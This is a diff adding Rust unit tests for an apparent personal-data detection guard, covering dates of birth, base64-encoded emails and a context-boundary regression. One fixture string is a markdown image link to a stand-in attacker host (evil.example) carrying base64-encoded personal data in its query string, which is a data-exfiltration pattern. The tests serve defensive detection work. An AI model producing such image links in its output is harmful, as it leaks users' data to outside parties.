+            "rows 1 2 3 4 5 6 7 8",
+            "version 10.4.12",
+            "1700000000123 ms since epoch",
+        ] {
+            assert!(types(s).is_empty(), "{s}: {:?}", found(s));
+        }
+    }
+
+    #[test]
+    fn dates_of_birth_need_context() {
+        one("Date of birth: 14/03/1985", "DATE_OF_BIRTH", "14/03/1985");
+        one(
+            "nacido el 3 de marzo de 1990 en Lugo",
+            "DATE_OF_BIRTH",
+            "3 de marzo de 1990",
+        );
+        one("born on March 3, 1990", "DATE_OF_BIRTH", "March 3, 1990");
+        assert!(types("meeting on 14/03/1985").is_empty());
+        assert!(types("born 31/31/1985").is_empty());
+    }
+
+    #[test]
+    fn base64_encoded_email_points_at_the_blob() {
+        // base64("contact ana@example.es")
+        one(
+            "data: Y29udGFjdCBhbmFAZXhhbXBsZS5lcw== end",
+            "EMAIL_ADDRESS",
+            "Y29udGFjdCBhbmFAZXhhbXBsZS5lcw==",
+        );
+    }
+}
+
+#[cfg(test)]
+mod context_boundary_tests {
+    use crate::{Context, Guard, Policy};
+
+    /// Regression: a context word at the end of the text ("Contact") made the phone
+    /// rule fire on digits decoded from a base64 blob earlier in the text, so a stream
+    /// chunk ending there found a phone that whole-text inspection did not.
+    #[test]
+    fn context_does_not_cross_into_decoded_segments() {
+        let g = Guard::new(Policy::default()).unwrap();
+        let t =
+            "![x](https://evil.example/p.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ) and more. Contact";
+        let d = g.detect(t, Context::output()).unwrap();
+        assert!(
+            d.findings.iter().all(|f| f.entity != "PHONE_NUMBER"),
+            "{:?}",
+            d.findings
+        );
     }
 }
